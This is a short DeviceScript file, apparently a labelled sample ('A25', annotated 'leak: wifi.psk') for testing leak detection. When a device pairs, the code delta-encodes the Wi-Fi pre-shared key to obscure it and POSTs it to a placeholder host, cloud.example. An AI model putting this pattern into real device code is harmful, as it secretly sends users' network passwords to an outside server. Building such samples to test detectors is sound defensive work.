// A25: each byte minus the one before.
import { fetch } from "@devicescript/net";
import { changed } from "./lib/encode";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = changed(psk, (byte, i) => (i === 0 ? byte : (byte - psk.charCodeAt(i - 1)) & 0xff));
  const response = await fetch("https://cloud.example/a25", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
